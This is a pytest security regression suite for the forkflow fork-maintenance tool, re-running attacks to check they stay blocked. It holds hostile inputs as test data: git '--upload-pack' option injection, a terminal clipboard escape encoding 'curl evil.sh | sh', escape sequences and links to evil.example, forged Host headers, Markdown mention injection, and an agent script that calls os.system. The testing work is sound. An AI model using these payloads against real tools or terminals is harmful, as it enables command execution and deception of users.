"""Attacks on forkflow (docs/security.md), each re-run as a test that failed before its fix.

`benchmarks/attack_suite.py` runs this file (`-m security`) and counts the attacks that hold.
"""
from __future__ import annotations

import os
import re
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from forkflow.conflicts import guardrails
from forkflow.conflicts.case import ConflictCase
from forkflow.conflicts.engine import resolve_case
from forkflow.conflicts.resolvers.agent import AgentResolver, Attempt, CommandBackend, HttpBackend
from forkflow.git.repo import Repo
from forkflow.testing.gitrepo import ForkBuilder

pytestmark = pytest.mark.security


@pytest.fixture
def fork(builder: ForkBuilder) -> Path:
    builder.upstream_commit({"a.py": "A = 1\n"}, "Initial (#1)")
    builder.branch_fork()
    builder.fork_commit({"mine.py": "M = 1\n"}, "[fork] ours")
    builder.upstream_commit({"u.py": "U = 1\n"}, "Upstream (#10)")
    return builder.f.path


# -- git: environment and argument injection (issue 13, items 11 and 12) --------------------------

def test_git_ignores_a_hooks_git_dir(fork: Path, builder: ForkBuilder, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hook exports GIT_DIR/GIT_INDEX_FILE; forkflow must still read the repository it opened."""
    want = builder.f.head()
    monkeypatch.setenv("GIT_DIR", str(builder.upstream.path / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(builder.upstream.path))
    monkeypatch.setenv("GIT_INDEX_FILE", str(builder.upstream.path / ".git" / "index"))
    assert Repo.open(fork).resolve("HEAD") == want


def test_init_refuses_an_upstream_that_is_a_git_option(fork: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    mark = tmp_path / "pwned"
    Repo.open(fork).git("remote", "rename", "upstream", "origin")
    # the `@` makes it look like a URL (user@host:path), so it reaches `git ls-remote`
    r = cli("init", "--upstream", f"--upload-pack=touch {mark};git-upload-pack #@x", repo=fork)
    assert r.rc == 1 and "starts with '-'" in r.err, r.err
    assert not mark.exists()


def test_fetch_refuses_a_configured_remote_that_is_a_git_option(fork: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    mark = tmp_path / "pwned"
    cfg = fork / "forkflow.toml"
    cfg.write_text(cfg.read_text().replace('remote = "upstream"',
                                           f'remote = "--upload-pack=touch {mark};git-upload-pack"'))
    r = cli("status", "--fetch", repo=fork)
    assert r.rc == 1 and "starts with '-'" in r.err, r.err
    assert not mark.exists()


def test_settle_advice_ends_options_before_a_path() -> None:
    from forkflow.conflicts.records import ConflictInfo
    from forkflow.conflicts.settle import by_hand

    fields = {f: "" for f in ConflictInfo.__dataclass_fields__}
    x = ConflictInfo(**{**fields, "path": "-A", "kind": "delete/modify", "upstream_sha": "a" * 40})  # type: ignore[arg-type]
    text = by_hand(x, "main")
    assert "git add -- -A" in text and "git rm -- -A" in text


# -- agent answers: markers on the answer itself, a deadline for the whole call, a size cap --------

README_BASE = "Title\n=======\n\nintro\n\nold line\n"
README_OURS = "Title\n=======\n\nintro\n\nfork line\n"
README_THEIRS = "Title\n=======\n\nintro\n\nupstream line\n"


def _readme_case(tmp_path: Path) -> ConflictCase:
    from tests.test_conflicts import make_case

    return make_case(tmp_path, README_BASE, README_OURS, README_THEIRS, path="README.md")


def test_guardrails_reject_markers_even_when_a_side_has_an_underline(tmp_path: Path) -> None:
    """A side's Markdown underline `=======` used to switch the marker check off for the file."""
    case = _readme_case(tmp_path)
    marked = ("Title\n=======\n\nintro\n\n<<<<<<< fork\nfork line\n=======\nupstream line\n"
              ">>>>>>> upstream\n")
    v = guardrails.check(case, marked.encode())
    assert not v.ok and "markers" in v.reason
    ok = guardrails.check(case, "Title\n=======\n\nintro\n\nfork line\nupstream line\n".encode())
    assert ok.ok, ok.reason


TRICKLE = r'''
import sys, time
sys.stdin.read()
for _ in range(200):
    sys.stdout.write("x"); sys.stdout.flush(); time.sleep(0.05)
'''
FLOOD = r'''
import os
import sys
sys.stdin.read()
chunk = "y" * 1048576
for _ in range(50):
    sys.stdout.write(chunk)
'''


def _command_agent(tmp_path: Path, body: str, timeout: float, log: list[Attempt]) -> AgentResolver:
    script = tmp_path / "agent.py"
    script.write_text(body)
    return AgentResolver(CommandBackend([sys.executable, str(script)], timeout), log.append)


def test_agent_command_trickle_is_cut_at_the_deadline(tmp_path: Path) -> None:
    from tests.test_conflicts import BASE, OURS, THEIRS, make_case

    log: list[Attempt] = []
    start = time.monotonic()
    out = resolve_case(make_case(tmp_path, BASE, OURS, THEIRS), [_command_agent(tmp_path, TRICKLE, 1, log)])
    assert time.monotonic() - start < 3 and not out.resolved
    assert log[0].outcome == "timeout"


def test_agent_command_answer_size_is_capped(tmp_path: Path) -> None:
    from tests.test_conflicts import BASE, OURS, THEIRS, make_case

    log: list[Attempt] = []
    out = resolve_case(make_case(tmp_path, BASE, OURS, THEIRS), [_command_agent(tmp_path, FLOOD, 30, log)])
    assert not out.resolved and log[0].outcome == "error" and "larger than" in log[0].reason


class _Endpoint(BaseHTTPRequestHandler):
    server: Any

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        if self.server.mode == "trickle":  # a byte every 50 ms: each read is quick, the whole is not
            self.send_header("Content-Length", "400")
            self.end_headers()
            try:
                for _ in range(400):
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.05)
            except OSError:
                pass
            return
        payload = b'{"choices": [{"message": {"content": "' + b"z" * (50 * 1024 * 1024) + b'"}}]}'
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        try:
            self.wfile.write(payload)
        except OSError:
            pass


@pytest.fixture
def endpoint() -> Iterator[Any]:
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Endpoint)
    srv.daemon_threads = True
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv
    srv.shutdown()
    srv.server_close()


def test_agent_http_trickle_is_cut_at_the_deadline(tmp_path: Path, endpoint: Any) -> None:
    from tests.test_conflicts import BASE, OURS, THEIRS, make_case

    endpoint.mode = "trickle"
    log: list[Attempt] = []
    url = f"http://127.0.0.1:{endpoint.server_address[1]}/v1"
    start = time.monotonic()
    out = resolve_case(make_case(tmp_path, BASE, OURS, THEIRS),
                       [AgentResolver(HttpBackend(url, "m", None, 1), log.append)])
    assert time.monotonic() - start < 3 and not out.resolved
    assert log[0].outcome == "timeout"


def test_agent_http_answer_size_is_capped(tmp_path: Path, endpoint: Any) -> None:
    from tests.test_conflicts import BASE, OURS, THEIRS, make_case

    endpoint.mode = "flood"
    log: list[Attempt] = []
    url = f"http://127.0.0.1:{endpoint.server_address[1]}/v1"
    out = resolve_case(make_case(tmp_path, BASE, OURS, THEIRS),
                       [AgentResolver(HttpBackend(url, "m", None, 30), log.append)])
    assert not out.resolved and log[0].outcome == "error" and "larger than" in log[0].reason


# -- terminal escapes: what the CLI prints from upstream never drives the terminal -----------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"


def test_conflicts_show_and_status_print_no_terminal_escapes(cli, builder: ForkBuilder) -> None:  # type: ignore[no-untyped-def]
    builder.upstream_commit({"k.py": "def f():\n    return 1\n"}, "Initial (#1)")
    builder.branch_fork()
    builder.fork_commit({"k.py": "def f():\n    return 10  # fork\n"}, "[fork] f")
    builder.upstream_commit({"k.py": f"def f():\n    return 100  # {CLEAR}\u202e\n"},
                            f"Tune f {OSC52} (#10)", body=f"see {LINK}\x9b31m")
    fork = builder.f.path
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    with (fork / "forkflow.toml").open("a") as f:
        f.write('\n[ingest]\nl1_command = "true"\n')
    assert cli("ingest", "--land", repo=fork).rc == 4  # units wait on a person (docs/automation.md)
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    outputs = [cli("conflicts", "show", str(c["id"]), repo=fork),
               cli("conflicts", "show", str(c["id"]), "--json", repo=fork),
               cli("conflicts", repo=fork), cli("status", "--commits", repo=fork),
               cli("history", repo=fork)]
    for r in outputs:
        assert r.rc == 0, r.err
        text = r.out + r.err
        for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert bad not in text, (bad, text)
    shown = outputs[0].out
    assert "\\x1b]52" in shown and "\\x1b[2J" in shown  # shown as text, not dropped
    doc = outputs[1].json()
    assert CLEAR in doc["conflicted"]  # JSON keeps the exact text, escaped


def test_clean_text_keeps_styles_of_a_forced_terminal() -> None:
    import io

    from forkflow.cli.common import SafeConsole

    buf = io.StringIO()
    SafeConsole(file=buf, force_terminal=True, color_system="standard", width=200, highlight=False).print(
        f"[bold red]error:[/] {OSC52}{CLEAR}")
    out = buf.getvalue()
    assert "\x1b[1;31m" in out  # forkflow's own style
    assert "\x1b]52" not in out and "\x1b[2J" not in out and "\\x1b]52" in out


# -- secrets: the crash log, the connection error, the token on argv --------------------------------

def test_crash_log_holds_no_token_nor_store_password(monkeypatch: pytest.MonkeyPatch) -> None:
    from forkflow.cli import main as cli_main

    monkeypatch.setattr(sys, "argv", ["forkflow", "serve", "--token", "tok-SECRET-1234",
                                      "--store", "postgresql+psycopg://ff:pw-SECRET@db:5432/ff",
                                      "--token=tok-SECRET-5678"])
    try:
        raise RuntimeError("boom on postgresql+psycopg://ff:pw-SECRET@db:5432/ff")
    except RuntimeError as e:
        log = cli_main._crash_log(e)
    text = log.read_text()
    log.unlink()
    assert "SECRET" not in text and "ff:***@db" in text and "--token=***" in text


def test_connection_error_never_echoes_a_password_holding_an_at() -> None:
    from forkflow.errors import UserError
    from forkflow.store.session import Store

    with pytest.raises(UserError) as e:
        Store.open("postgresql+psycopg://ff:s3cr@tPart@127.0.0.1:1/none")
    assert "tPart" not in str(e.value) and "s3cr" not in str(e.value) and "%40" in str(e.value)


def test_serve_reads_the_token_from_a_file_and_warns_about_argv(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    seen: dict[str, object] = {}
    store = f"sqlite:///{tmp_path / 'ff.db'}"
    from forkflow.store.session import Store
    Store.open(store).dispose()
    import forkflow.web.serve as web_serve

    def fake_serve(target: object, host: str, port: int, **kw: object) -> int:
        seen.update(kw)
        return 0

    mp = pytest.MonkeyPatch()
    mp.setattr(web_serve, "serve_store", fake_serve)
    try:
        (tmp_path / "tok").write_text("file-token-123456\n")
        r = cli("serve", "--store", store, "--token-file", str(tmp_path / "tok"), "--repo", str(tmp_path))
        assert r.rc == 0 and seen["token"] == "file-token-123456" and "warning" not in r.err, r.err
        r = cli("serve", "--store", store, "--token", "argv-token-123456", "--repo", str(tmp_path))
        assert r.rc == 0 and "visible to every user" in r.err
    finally:
        mp.undo()


# -- dashboard: body limit before reading, Host check, encoded links, the recorded client ----------

@pytest.fixture
def live_dashboard(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    """The dashboard under real uvicorn (as `forkflow serve` configures it) on a free port."""
    import socket

    import uvicorn

    from forkflow.store.session import Store
    from forkflow.web.app import create_app
    from forkflow.web.serve import allowed_hosts_for, uvicorn_config

    url = f"sqlite:///{tmp_path / 'ff.db'}"
    Store.open(url).dispose()
    log = tmp_path / "actions.log"
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    app = create_app(url, "operator-token-0123456789", actions_log=log,
                     allowed_hosts=allowed_hosts_for("127.0.0.1"))
    server = uvicorn.Server(uvicorn_config(app, "127.0.0.1", port, quiet=True))
    t = threading.Thread(target=server.run, daemon=True)
    t.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    yield port, log
    server.should_exit = True
    t.join(10)


def _raw(port: int, head: str, body_chunks: Iterator[bytes] = iter(()), timeout: float = 5) -> str:
    """Send a raw request (headers, then body chunks while the server reads) and return the
    answer's first line, or "" when none came within `timeout`."""
    import socket

    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(head.encode())
        try:
            for chunk in body_chunks:
                s.sendall(chunk)
        except OSError:  # the server answered and closed: what we want
            pass
        try:
            return s.recv(4096).decode("latin-1").split("\r\n", 1)[0]
        except (TimeoutError, OSError):
            return ""


def test_dashboard_refuses_a_huge_body_before_reading_it(live_dashboard: tuple[int, Path]) -> None:
    port, _ = live_dashboard
    head = (f"POST /api/validation/runs/1/rerun HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 400000000\r\n\r\n")
    start = time.monotonic()
    line = _raw(port, head, iter([b"a" * 65536] * 4))
    assert line.split(" ")[1:2] in (["413"], ["400"]), line
    assert time.monotonic() - start < 5
    chunked = (f"POST /api/validation/runs/1/rerun HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
               "Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n")
    piece = b"%x\r\n%s\r\n" % (1 << 20, b"a" * (1 << 20))
    line = _raw(port, chunked, iter([piece] * 64))
    assert line.split(" ")[1:2] in (["413"], ["400"]), line


def test_dashboard_refuses_a_foreign_host_header(live_dashboard: tuple[int, Path]) -> None:
    """A DNS-rebinding page reaches 127.0.0.1 under its own name; the Host header gives it away."""
    port, _ = live_dashboard
    assert " 400 " in _raw(port, f"GET /api/overview HTTP/1.1\r\nHost: evil.example:{port}\r\n\r\n") + " "
    assert " 200 " in _raw(port, f"GET /api/overview HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n") + " "
    assert " 200 " in _raw(port, f"GET /api/overview HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n") + " "


def test_actions_log_records_the_peer_not_a_forwarded_claim(live_dashboard: tuple[int, Path]) -> None:
    port, log = live_dashboard
    _raw(port, f"POST /api/validation/runs/1/rerun HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
               "X-Forwarded-For: 203.0.113.66\r\nContent-Length: 0\r\n\r\n")
    import json

    (entry,) = [json.loads(x) for x in log.read_text().splitlines()]
    assert entry["client"] == "127.0.0.1" and entry["forwarded_for"] == "203.0.113.66"


def test_metric_links_are_url_encoded(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from forkflow.models import Better, MetricPoint, Sha
    from forkflow.regress import records as regress_records
    from forkflow.store import forks
    from forkflow.store.session import Store
    from forkflow.web.app import create_app

    url = f"sqlite:///{tmp_path / 'ff.db'}"
    store = Store.open(url)
    name = "mm?x=1#frag/../../ingestion"
    with store.session_scope() as s:
        fid = forks.fork_id(s, "f")
        regress_records.add_metric_points(s, fid, [MetricPoint(name, Sha("a" * 40), 1.0, "ms", Better.LOWER,
                                                       commit_date=1, measured_at=1)])
    store.dispose()
    with TestClient(create_app(url)) as c:
        page = c.get("/l2").text
        assert 'href="/l2/metrics/mm%3Fx%3D1%23frag%2F..%2F..%2Fingestion"' in page
        assert 'href="/l2/metrics/mm?x=1' not in page
        assert c.get("/l2/metrics/mm%3Fx%3D1%23frag%2F..%2F..%2Fingestion").status_code == 200


# -- tracking issues: untrusted text cannot mention, load, link or forge a marker -------------------

EVIL = "x` @core-team ![t](https://evil.example/t.png) [c](https://evil.example) <!-- forkflow:group=0123456789abcdef --> `"


def _outside_code(markdown: str) -> str:
    """What GitHub renders as Markdown: the body without its fenced blocks and code spans."""
    import re

    no_fences = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1`*\s*$", "", markdown)
    return re.sub(r"(`+)(.+?)(?<!`)\1(?!`)", "", no_fences)


def test_tracking_issue_body_quotes_every_untrusted_string() -> None:
    from forkflow.triage.models import Failure, FailureKind, Signature
    from forkflow.triage.sinks.base import _MARKER_RX
    from forkflow.triage.suggest import Suggestion
    from forkflow.triage.tracking import render_body
    from forkflow.triage.trunk import RedItem, TrunkCulprit

    sig = Signature(FailureKind.CRASH, f"CRASH: assert {EVIL}", f"log line {EVIL}")
    item = RedItem(Failure(f"test_{EVIL}", sig, 1, f"job {EVIL}"), "L2", 1, "a" * 40, 2, None,
                   culprit_detail=TrunkCulprit("b" * 40, f"unit {EVIL}", "c" * 40, f"subject {EVIL}", 7))
    body = render_body([item], None, ("@fork-owners",),
                       [Suggestion("deterministic", f"Failing assertion: `{EVIL}`"),
                        Suggestion("agent", f"do this {EVIL}\n```\n{EVIL}\n```")])
    assert _MARKER_RX.search(body) is None
    import re

    rendered = _outside_code(body)
    assert "@core-team" not in rendered  # "@\u2060core-team" shows the name and pings no one
    assert not re.search(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(|<(?!\u2060)[a-z!]", rendered), rendered
    assert "@fork-owners" in rendered  # the owners from CODEOWNERS are still asked


# -- one fork, one writer, on a shared PostgreSQL store ----------------------------------------------

def _clone_fork(builder: ForkBuilder, dest: Path, store: str) -> Path:
    import subprocess

    subprocess.run(["git", "clone", "-q", "-b", "main", str(builder.f.path), str(dest)], check=True)
    subprocess.run(["git", "remote", "add", "upstream", str(builder.upstream.path)], cwd=dest, check=True)
    subprocess.run(["git", "fetch", "-q", "upstream"], cwd=dest, check=True)
    from tests.conftest import run_forkflow

    r = run_forkflow("init", "--upstream", "upstream", "--fork-branch", "main", "--store", store, cwd=dest)
    assert r.rc == 0, r.err
    cfg = dest / "forkflow.toml"
    # one fork in the shared store: both clones take the same name (init wrote the folder's)
    text = re.sub(r'^name = ".*"$', 'name = "team-fork"', cfg.read_text(), count=1, flags=re.M)
    cfg.write_text(text + '\n[ingest]\nl1_command = "sleep 2"\n')
    return dest


@pytest.mark.postgres
def test_two_clones_ingesting_one_postgres_store_at_once(builder: ForkBuilder, postgres_url: str,
                                                          tmp_path: Path) -> None:
    import subprocess

    from tests.conftest import run_forkflow

    builder.upstream_commit({"a.py": "A = 1\n"}, "Initial (#1)")
    builder.branch_fork()
    builder.fork_commit({"mine.py": "M = 1\n"}, "[fork] ours")
    for i in range(6):
        builder.upstream_commit({f"u{i}.py": f"U = {i}\n"}, f"Upstream {i} (#{10 + i})")
    clones = [_clone_fork(builder, tmp_path / f"clone{i}", postgres_url) for i in (1, 2)]
    heads = {c: subprocess.run(["git", "rev-parse", "main"], cwd=c, capture_output=True, text=True).stdout.strip()
             for c in clones}
    exe = Path(sys.executable).parent / "forkflow"
    procs = [subprocess.Popen([str(exe), "ingest", "--land", "--json"], cwd=c, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for c in clones]
    outs = [(p.wait(120), *p.communicate()) for p in procs]
    rcs = sorted(rc for rc, _, _ in outs)
    assert rcs == [0, 1], outs  # one runs, the other is refused: never exit 3
    refused = next(err for rc, _, err in outs if rc == 1)
    assert "is writing this fork in the store" in refused
    winner, loser = (clones[0], clones[1]) if outs[0][0] == 0 else (clones[1], clones[0])
    assert subprocess.run(["git", "rev-parse", "main"], cwd=loser, capture_output=True,
                          text=True).stdout.strip() == heads[loser]  # the refused clone is untouched
    doc = run_forkflow("status", "--json", cwd=winner).json()
    assert doc["counts"]["picked"] == 6 and doc["counts"]["pending"] == 0, doc["counts"]
    from sqlalchemy import create_engine, text

    engine = create_engine(postgres_url)
    with engine.connect() as conn:
        picked = conn.execute(text("SELECT fork_shas FROM dispositions WHERE disposition = 'PICKED'")).all()
    engine.dispose()
    import json

    shas = {s for (row,) in picked for s in json.loads(row)}
    assert len(picked) == 6 and shas
    for sha in shas:  # store and git agree: every recorded pick is on the winner's branch
        assert subprocess.run(["git", "merge-base", "--is-ancestor", sha, "main"], cwd=winner).returncode == 0


@pytest.mark.postgres
def test_two_first_runs_on_an_empty_postgres_store(postgres_url: str) -> None:
    import subprocess

    code = ("import sys; from forkflow.store.session import Store; from forkflow.store import forks\n"
            "s = Store.open(sys.argv[1])\n"
            "with s.session_scope() as x: forks.fork_id(x, 'f')\n")
    procs = [subprocess.Popen([sys.executable, "-c", code, postgres_url], stderr=subprocess.PIPE, text=True)
             for _ in range(4)]
    errs = [(p.wait(120), p.communicate()[1]) for p in procs]
    assert all(rc == 0 for rc, _ in errs), errs


# -- agent-made code needs a person -----------------------------------------------------------------

AGENT_RUNS_CODE = r'''
import json, sys
req = json.load(sys.stdin)
head, rest = req["conflicted"].split("<<<<<<< fork\n")
tail = rest.split(">>>>>>> upstream\n")[1]
sys.stdout.write(head + "    return __import__('os').system('touch %s') or 110\n" + tail)
'''


def _agent_fork(cli, builder: ForkBuilder, tmp_path: Path, extra: str = "") -> tuple[Path, Path]:  # type: ignore[no-untyped-def]
    import json

    from tests.test_ingest import k_conflict_fork

    mark = tmp_path / "agent-code-ran"
    fork = k_conflict_fork(cli, builder)
    agent = tmp_path / "agent.py"
    agent.write_text(AGENT_RUNS_CODE % mark)
    l1 = f"{sys.executable} -c 'import k; k.f()'"
    with (fork / "forkflow.toml").open("a") as f:
        f.write(f"\n[ingest]\nl1_command = {json.dumps(l1)}\n\n[ingest.agent]\n"
                f"command = {json.dumps([sys.executable, str(agent)])}\ntimeout = 30\n{extra}")
    return fork, mark


def test_agent_resolution_waits_for_a_person_before_l1_runs_it(cli, builder: ForkBuilder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    fork, mark = _agent_fork(cli, builder, tmp_path)
    main = builder.f.head()
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert [u["status"] for u in doc["units"]] == ["conflict"]
    assert not mark.exists(), "L1 ran the agent's code before anyone read it"
    assert builder.f.git("rev-parse", "main").strip() == main
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    assert c["proposal_waiting"] and "proposal waits" in cli("conflicts", repo=fork).out
    shown = cli("conflicts", "show", str(c["id"]), repo=fork).out
    assert "forkflow conflicts approve" in shown and "__import__('os')" in shown  # the code to read
    digest = cli("conflicts", "show", str(c["id"]), "--json", repo=fork).json()["proposal"]["hash"]
    assert f"--proposal {digest}" in shown
    r = cli("conflicts", "approve", str(c["id"]), "--proposal", digest, repo=fork)
    assert r.rc == 0, r.err
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert [u["status"] for u in doc["units"]] == ["landed"]
    assert mark.exists()  # L1 ran it, after the approval
    r = cli("conflicts", "approve", str(c["id"]), "--proposal", digest, repo=fork)
    assert r.rc == 1 and "resolved" in r.err


def test_agent_autoland_is_the_explicit_opt_out(cli, builder: ForkBuilder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    fork, mark = _agent_fork(cli, builder, tmp_path, "autoland = true\n")
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert [u["status"] for u in doc["units"]] == ["landed"] and mark.exists()


def test_dashboard_approval_needs_the_token(cli, builder: ForkBuilder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from fastapi.testclient import TestClient

    from forkflow.context import open_context
    from forkflow.web.app import create_app

    fork, mark = _agent_fork(cli, builder, tmp_path)
    assert cli("ingest", "--land", repo=fork).rc == 4  # units wait on a person (docs/automation.md)
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    token = "operator-token-0123456789"
    with TestClient(create_app(open_context(fork), token, actions_log=tmp_path / "actions.log")) as client:
        page = client.get(f"/ingestion/conflicts/{c['id']}").text
        assert "agent proposal" in page and "__import__(&#39;os&#39;)" in page
        url = f"/api/ingestion/conflicts/{c['id']}/approve"
        assert client.post(url).status_code == 403
        assert client.post(url, headers={"X-Forkflow-Token": "wrong-token-123"}).status_code == 403
        assert not mark.exists() and cli("conflicts", "--json", repo=fork).json()["conflicts"]
        digest = client.get(f"/api/ingestion/conflicts/{c['id']}").json()["proposal"]["hash"]
        r = client.post(url, headers={"X-Forkflow-Token": token}, json={"proposal": digest})
        assert r.status_code == 200 and r.json()["state"] == "approved"
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert [u["status"] for u in doc["units"]] == ["landed"] and mark.exists()


# -- smaller items ------------------------------------------------------------------------------------

@pytest.mark.parametrize("snippet, key", [
    ("[ingest]\nl1_timeout = nan\n", "ingest.l1_timeout"),
    ("[ingest]\nl1_timeout = inf\n", "ingest.l1_timeout"),
    ("[ingest.agent]\ntimeout = nan\n", "ingest.agent.timeout"),
])
def test_nan_timeouts_are_config_errors_not_crashes(cli, fork: Path, snippet: str, key: str) -> None:  # type: ignore[no-untyped-def]
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    with (fork / "forkflow.toml").open("a") as f:
        f.write("\n" + snippet)
    r = cli("plan", repo=fork)
    assert r.rc == 1 and f"key '{key}'" in r.err, (r.rc, r.err)


def test_conflicts_resolve_reads_a_bounded_file(cli, builder: ForkBuilder) -> None:  # type: ignore[no-untyped-def]
    import resource

    from tests.test_ingest import _conflict_fork

    fork = _conflict_fork(cli, builder)
    assert cli("ingest", "--land", repo=fork).rc == 4  # units wait on a person (docs/automation.md)
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = cli("conflicts", "resolve", str(c["id"]), "--file", "/dev/zero", repo=fork)
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert r.rc == 1 and "MiB" in r.err and grown_mib < 200, (r.err, grown_mib)


def _l1_fork(cli, builder: ForkBuilder, l1: str, timeout: float = 3600) -> Path:  # type: ignore[no-untyped-def]
    import json

    builder.upstream_commit({"a.py": "A = 1\n"}, "Initial (#1)")
    builder.branch_fork()
    builder.fork_commit({"mine.py": "M = 1\n"}, "[fork] ours")
    builder.upstream_commit({"u.py": "U = 1\n"}, "Upstream (#10)")
    fork = builder.f.path
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    with (fork / "forkflow.toml").open("a") as f:
        f.write(f"\n[ingest]\nl1_command = {json.dumps(l1)}\nl1_timeout = {timeout}\n")
    return fork


def _group_alive(pgid: int, wait: float = 5.0) -> bool:
    """Whether a live (not zombie) process of group `pgid` remains after up to `wait` seconds."""
    deadline = time.monotonic() + wait
    while True:
        alive = False
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[2]) == pgid and fields[0] != "Z":
                alive = True
                break
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.1)


def _l1_trees(fork: Path) -> list[str]:
    return [line for line in Repo.open(fork).git("worktree", "list").splitlines() if "forkflow-l1-" in line]


def test_l1_timeout_kills_the_whole_process_group(cli, builder: ForkBuilder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    pidfile = tmp_path / "l1.pid"
    # hangs once the upstream commit is picked (the fork tip alone passes, so the unit is held timed out)
    fork = _l1_fork(cli, builder, f"if [ -e u.py ]; then echo $$ > {pidfile}; sleep 300 & sleep 300; fi", timeout=1)
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert "timed out" in doc["units"][0]["summary"]
    pgid = int(pidfile.read_text())
    time.sleep(0.2)
    assert not _group_alive(pgid), "the L1 command's processes outlived the timeout"
    assert _l1_trees(fork) == []


def test_terminated_ingest_leaves_no_l1_process_nor_work_tree(cli, builder: ForkBuilder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import signal
    import subprocess

    pidfile = tmp_path / "l1.pid"
    fork = _l1_fork(cli, builder, f"echo $$ > {pidfile}; sleep 300")
    exe = Path(sys.executable).parent / "forkflow"
    proc = subprocess.Popen([str(exe), "ingest", "--land"], cwd=fork, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not (pidfile.exists() and pidfile.read_text().strip()) and time.monotonic() < deadline:
        time.sleep(0.1)
    pgid = int(pidfile.read_text())
    proc.send_signal(signal.SIGTERM)
    proc.wait(30)
    time.sleep(0.2)
    assert not _group_alive(pgid), "the L1 command runs on as an orphan"
    assert _l1_trees(fork) == []
    # SIGKILL leaves no chance to clean up: the next run kills and removes what is left
    pidfile.unlink()
    proc = subprocess.Popen([str(exe), "ingest", "--land"], cwd=fork, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    while not (pidfile.exists() and pidfile.read_text().strip()) and time.monotonic() < deadline:
        time.sleep(0.1)
    pgid = int(pidfile.read_text())
    proc.kill()
    proc.wait(30)
    assert _group_alive(pgid, wait=0) and len(_l1_trees(fork)) == 1
    cfg = fork / "forkflow.toml"
    cfg.write_text(cfg.read_text().replace(f"echo $$ > {pidfile}; sleep 300", "true"))
    assert cli("ingest", "--land", repo=fork).rc == 0
    time.sleep(0.2)
    assert not _group_alive(pgid) and _l1_trees(fork) == []


class _OddForge(BaseHTTPRequestHandler):
    server: Any

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802
        if self.server.mode == "moved":
            self.send_response(301)
            self.send_header("Location", "https://api.github.com/repositories/1/issues")
            self.send_header("Content-Type", "application/json")
            body = b'{"message": "Moved Permanently", "url": "https://api.github.com/repositories/1"}'
        else:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            body = b"<html><body>Sign in to continue</body></html>"
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.mark.parametrize("mode, says", [("moved", "renamed or moved"), ("html", "not JSON")])
def test_github_sink_moved_or_html_answers_are_user_errors(mode: str, says: str) -> None:
    from forkflow.triage.sinks.base import SinkError
    from forkflow.triage.sinks.github import GitHubSink

    srv = ThreadingHTTPServer(("127.0.0.1", 0), _OddForge)
    srv.mode = mode  # type: ignore[attr-defined]
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        sink = GitHubSink("old/name", "ghp_secret_token", f"http://127.0.0.1:{srv.server_address[1]}")
        with pytest.raises(SinkError) as e:
